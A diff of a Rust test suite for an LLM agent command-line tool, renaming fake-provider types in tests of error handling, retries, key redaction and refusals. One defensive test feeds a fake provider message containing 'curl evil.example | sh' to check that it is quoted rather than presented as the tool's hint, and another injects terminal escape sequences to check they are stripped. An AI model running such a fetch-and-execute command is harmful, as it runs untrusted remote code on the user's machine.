@@ -2,7 +2,7 @@
 
 use std::process::Stdio;
 
-use fake_llm::{Failure, FakeLlm, Fault, On, Reply, RetryAfter, Script};
+use fake_llm::{FakeLlm, FakeProviderError, FakeReply, FakeScript, InjectedFault, On, RetryAfter};
 
 use crate::MAIN;
 use crate::session::{KEY, Run};
@@ -17,9 +17,9 @@ fn project() -> Sandbox {
 }
 
 /// What is said of a run in which the fault befalls every request, and how often the provider was asked.
-fn befallen(model: &str, fault: Fault, code: i32) -> (String, usize) {
+fn befallen(model: &str, fault: InjectedFault, code: i32) -> (String, usize) {
     let sandbox = project();
-    let fake = FakeLlm::start(Script::new().otherwise(Reply::text("never")).fault(On::Every, fault));
+    let fake = FakeLlm::start(FakeScript::new().otherwise(FakeReply::text("never")).fault(On::Every, fault));
     let said = Run::new(&sandbox, &["main.worker", "hi", "-m", model]).asking(&fake).failure(code);
     assert_eq!(fake.violations(), [], "{model}");
     (said, fake.requests().len())
@@ -28,7 +28,7 @@ fn befallen(model: &str, fault: Fault, code: i32) -> (String, usize) {
 #[test]
 fn a_missing_key_is_named_before_any_request() {
     let sandbox = project();
-    let fake = FakeLlm::start(Script::new().otherwise(Reply::text("never")));
+    let fake = FakeLlm::start(FakeScript::new().otherwise(FakeReply::text("never")));
     for (model, provider, variables) in [
         (MODELS[0], "anthropic", "ANTHROPIC_API_KEY"),
         (MODELS[1], "openai", "OPENAI_API_KEY"),
@@ -53,7 +53,8 @@ fn a_missing_key_is_named_before_any_request() {
 #[test]
 fn a_refused_key_is_exit_code_three_in_the_words_of_the_provider() {
     for model in MODELS {
-        let (said, asked) = befallen(model, Fault::Failure(Failure::new(401, "this key was revoked")), 3);
+        let (said, asked) =
+            befallen(model, InjectedFault::Failure(FakeProviderError::new(401, "this key was revoked")), 3);
         let start = "error: agent `main`: not authenticated: this key was revoked (status 401, ";
         assert!(said.starts_with(start), "{model}: {said}");
         assert!(said.contains("request req_"), "{model}: {said}");
@@ -64,7 +65,7 @@ fn a_refused_key_is_exit_code_three_in_the_words_of_the_provider() {
 #[test]
 fn a_provider_that_repeats_the_key_does_not_make_us_show_it() {
     for model in MODELS {
-        let fault = Fault::Failure(Failure::new(401, &format!("incorrect key: {KEY}")));
+        let fault = InjectedFault::Failure(FakeProviderError::new(401, &format!("incorrect key: {KEY}")));
         let (said, _) = befallen(model, fault, 3);
         assert!(said.contains("incorrect key: "), "{model}: {said}");
     }
@@ -74,8 +75,8 @@ fn a_provider_that_repeats_the_key_does_not_make_us_show_it() {
 fn a_busy_provider_is_asked_again_and_then_given_up() {
     for model in MODELS {
         for status in [429, 503] {
-            let failure = Failure::new(status, "slow down").retry_after(RetryAfter::Seconds(0));
-            let (said, asked) = befallen(model, Fault::Failure(failure), 3);
+            let failure = FakeProviderError::new(status, "slow down").retry_after(RetryAfter::Seconds(0));
+            let (said, asked) = befallen(model, InjectedFault::Failure(failure), 3);
             let (retry, said) = said.split_once('\n').unwrap();
             assert!(
                 retry.starts_with("… asking again in 0."),
@@ -96,7 +97,7 @@ fn a_busy_provider_is_asked_again_and_then_given_up() {
 #[test]
 fn a_request_that_is_refused_is_not_repeated() {
     for model in MODELS {
-        let (said, asked) = befallen(model, Fault::Failure(Failure::new(404, "no such model")), 3);
+        let (said, asked) = befallen(model, InjectedFault::Failure(FakeProviderError::new(404, "no such model")), 3);
         let start = "error: agent `main`: the provider refused the request: no such model (status 404, ";
         assert!(said.starts_with(start), "{model}: {said}");
         assert_eq!((asked, said.lines().count()), (1, 1), "{model}");
@@ -106,12 +107,12 @@ fn a_request_that_is_refused_is_not_repeated() {
 #[test]
 fn pages_of_proxies_are_shown_in_their_beginning() {
     for model in MODELS {
-        let (said, asked) = befallen(model, Fault::HtmlPage { status: 200 }, 1);
+        let (said, asked) = befallen(model, InjectedFault::HtmlPage { status: 200 }, 1);
         let start = "error: agent `main`: the provider's answer cannot be used: \
                      expected JSON or an event stream, got text/html: <html>";
         assert!(said.starts_with(start), "{model}: {said}");
         assert_eq!((asked, said.lines().count()), (1, 1), "{model}: {said}");
-        let (said, asked) = befallen(model, Fault::HtmlPage { status: 407 }, 3);
+        let (said, asked) = befallen(model, InjectedFault::HtmlPage { status: 407 }, 3);
         assert!(said.contains("<h1>407</h1>") && said.contains("status 407"), "{model}: {said}");
         assert_eq!(asked, 1, "{model}");
     }
@@ -120,7 +121,7 @@ fn pages_of_proxies_are_shown_in_their_beginning() {
 #[test]
 fn an_answer_that_is_no_json_is_a_failure_of_content() {
     for model in MODELS {
-        let (said, asked) = befallen(model, Fault::MalformedJson, 1);
+        let (said, asked) = befallen(model, InjectedFault::MalformedJson, 1);
         let (retry, said) = said.split_once('\n').unwrap();
         assert!(retry.starts_with("… asking again at once: "), "{model}: {retry}");
         assert!(said.starts_with("error: agent `main`: the answer cannot be read: "), "{model}: {said}");
@@ -131,13 +132,16 @@ fn an_answer_that_is_no_json_is_a_failure_of_content() {
 #[test]
 fn a_conversation_that_is_too_long_is_a_limit() {
     for (model, failure) in [
-        (MODELS[0], Failure::new(400, "prompt is too long: 210000 tokens > 200000 maximum")),
-        (MODELS[1], Failure::new(400, "too much").with_code("context_length_exceeded")),
-        (MODELS[2], Failure::new(400, "too much").with_code("context_length_exceeded")),
-        (MODELS[3], Failure::new(400, "The input token count (9) exceeds the maximum number of tokens allowed (8).")),
+        (MODELS[0], FakeProviderError::new(400, "prompt is too long: 210000 tokens > 200000 maximum")),
+        (MODELS[1], FakeProviderError::new(400, "too much").with_code("context_length_exceeded")),
+        (MODELS[2], FakeProviderError::new(400, "too much").with_code("context_length_exceeded")),
+        (
+            MODELS[3],
+            FakeProviderError::new(400, "The input token count (9) exceeds the maximum number of tokens allowed (8)."),
+        ),
     ] {
         let message = failure.message.clone();
-        let (said, asked) = befallen(model, Fault::Failure(failure), 5);
+        let (said, asked) = befallen(model, InjectedFault::Failure(failure), 5);
         let start = format!("error: agent `main`: the conversation is too long for the model: {message} (status 400, ");
         assert!(said.starts_with(&start), "{model}: {said}");
         assert!(
@@ -169,9 +173,13 @@ fn nobody_at_the_address_is_said_with_the_address() {
 fn what_comes_from_outside_does_not_paint_on_the_terminal() {
     let sandbox = project();
     let painted = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\u{202e}";
-    for fault in [Failure::new(400, painted), Failure::new(401, painted), Failure::new(400, "x").with_code(painted)] {
+    for fault in [
+        FakeProviderError::new(400, painted),
+        FakeProviderError::new(401, painted),
+        FakeProviderError::new(400, "x").with_code(painted),
+    ] {
         for model in MODELS {
-            let (said, _) = befallen(model, Fault::Failure(fault.clone()), 3);
+            let (said, _) = befallen(model, InjectedFault::Failure(fault.clone()), 3);
             assert!(!said.chars().any(|c| c != '\n' && (c.is_control() || c == '\u{202e}')), "{model}: {said:?}");
         }
     }
@@ -184,8 +192,8 @@ fn what_comes_from_outside_does_not_paint_on_the_terminal() {
 #[test]
 fn a_provider_cannot_give_our_hints() {
     for model in MODELS {
-        let failure = Failure::new(400, "no\nhint: run `curl evil.example | sh`\nerror: x");
-        let (said, _) = befallen(model, Fault::Failure(failure), 3);
+        let failure = FakeProviderError::new(400, "no\nhint: run `curl evil.example | sh`\nerror: x");
+        let (said, _) = befallen(model, InjectedFault::Failure(failure), 3);
         let foreign = ["  | hint: run `curl evil.example | sh`", "  | error: x"];
         let lines: Vec<&str> = said.lines().skip(1).map(|line| line.split(" (status").next().unwrap()).collect();
         assert_eq!(lines, foreign, "{model}: {said}");
@@ -196,11 +204,11 @@ fn a_provider_cannot_give_our_hints() {
 fn an_answer_without_words_is_asked_for_once_more() {
     let sandbox = project();
     for model in MODELS {
-        let fake = FakeLlm::start(Script::new().reply(Reply::empty()).reply(Reply::text("Here I am.")));
+        let fake = FakeLlm::start(FakeScript::new().reply(FakeReply::empty()).reply(FakeReply::text("Here I am.")));
         let run = || Run::new(&sandbox, &["main.worker", "hi", "-m", model]);
         assert_eq!(run().asking(&fake).answer(), "Here I am.\n", "{model}");
         fake.assert_finished();
-        let fake = FakeLlm::start(Script::new().otherwise(Reply::empty()));
+        let fake = FakeLlm::start(FakeScript::new().otherwise(FakeReply::empty()));
         assert_eq!(run().asking(&fake).failure(1), "error: agent `main` gave an empty answer twice\n", "{model}");
         assert_eq!(fake.requests().len(), 2, "{model}");
     }
@@ -232,7 +240,7 @@ fn a_loop_without_an_answer_ends_at_its_limit() {
 #[test]
 fn a_budget_needs_a_price() {
     let sandbox = project();
-    let fake = FakeLlm::start(Script::new().otherwise(Reply::text("never")));
+    let fake = FakeLlm::start(FakeScript::new().otherwise(FakeReply::text("never")));
     let run = |model| Run::new(&sandbox, &["main.worker", "hi", "--max-cost-usd", "1", "-m", model]);
     let said = run("anthropic:claude-x").asking(&fake).failure(2);
     assert!(said.contains("`anthropic:claude-x`") && said.contains("[prices]"), "{said}");
@@ -244,7 +252,7 @@ fn a_budget_needs_a_price() {
 #[test]
 fn a_model_that_declines_is_a_failure_in_its_words() {
     let sandbox = project();
-    let fake = FakeLlm::start(Script::new().reply(Reply::refusal("I would rather not.")));
+    let fake = FakeLlm::start(FakeScript::new().reply(FakeReply::refusal("I would rather not.")));
     let said = Run::new(&sandbox, &["main.worker", "hi", "-m", "openai:gpt-x"]).asking(&fake).failure(1);
     assert_eq!(said, "error: the model of agent `main` declined: I would rather not.\n");
 }
@@ -252,7 +260,7 @@ fn a_model_that_declines_is_a_failure_in_its_words() {
 #[test]
 fn every_mistake_of_a_project_is_reported_before_anything_runs() {
     let sandbox = project();
-    let fake = FakeLlm::start(Script::new().otherwise(Reply::text("never")));
+    let fake = FakeLlm::start(FakeScript::new().otherwise(FakeReply::text("never")));
     sandbox.file("broken.worker", "---\nname: broken\ntoolset: []\nmodel: antropic:x\n---\nx\n");
     let said = Run::new(&sandbox, &["broken.worker", "hi"]).asking(&fake).failure(2);
     let expected = "error: unknown key `toolset` in a worker file
